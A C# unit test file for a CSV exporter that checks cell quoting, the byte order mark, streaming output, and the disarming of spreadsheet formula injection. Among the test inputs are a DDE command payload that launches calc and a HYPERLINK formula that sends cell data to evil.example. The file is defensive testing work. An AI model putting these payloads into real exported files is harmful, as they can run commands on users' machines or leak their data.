using System.Text;
using Entente.Platform.Exports;

namespace Entente.Platform.Tests.Exports;

public sealed class CsvExportTests
{
    [Theory]
    [InlineData("Omega", "Omega")]
    [InlineData("", "")]
    [InlineData(null, "")]
    [InlineData("Omega, Inc", "\"Omega, Inc\"")]
    [InlineData("the \"best\"", "\"the \"\"best\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData(" blanks ", "\" blanks \"")]
    [InlineData("a=b", "a=b")]
    [InlineData("3-4", "3-4")]
    [InlineData("name@example.com", "name@example.com")]
    public void Writes_a_cell_as_RFC_4180_says(string? text, string cell) => Assert.Equal(cell, CsvCell.Of(text));

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\tharmless")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("  =1")]
    [InlineData("\u00a0=1")]
    [InlineData("\u0000=1")]
    [InlineData("\u200b=1")]
    [InlineData("\ufeff=1")]
    [InlineData("＝1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(A1)")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")")]
    public void Disarms_what_a_spreadsheet_would_run(string text) =>
        Assert.StartsWith("'" + text[..1], CsvCell.Of(text).TrimStart('"'), StringComparison.Ordinal);

    [Fact]
    public async Task Writes_titles_and_rows_with_a_byte_order_mark()
    {
        var csv = new CsvExport<(string Name, int Count)>(new("name", r => r.Name), new("count", r => $"{r.Count}"));
        using var target = new MemoryStream();
        await csv.WriteAsync(target, RowsAsync(2), CancellationToken.None);
        Assert.Equal("\ufeffname,count\r\nÄ 0,0\r\nÄ 1,1\r\n", Encoding.UTF8.GetString(target.ToArray()));
    }

    [Fact]
    public async Task Writes_while_it_reads()
    {
        var csv = new CsvExport<(string Name, int Count)>(new CsvColumn<(string Name, int Count)>("name", r => r.Name));
        using var target = new MemoryStream();
        var longest = 0L;
        async IAsyncEnumerable<(string, int)> Watched()
        {
            var read = 0L;
            await foreach (var row in RowsAsync(20_000))
            {
                read += 8;
                longest = Math.Max(longest, read - target.Length);
                yield return row;
            }
        }

        await csv.WriteAsync(target, Watched(), CancellationToken.None);
        Assert.InRange(longest, 1, 64 * 1024);
    }

    private static async IAsyncEnumerable<(string Name, int Count)> RowsAsync(int count)
    {
        for (var i = 0; i < count; i++)
        {
            await Task.CompletedTask;
            yield return ($"Ä {i}", i);
        }
    }
}
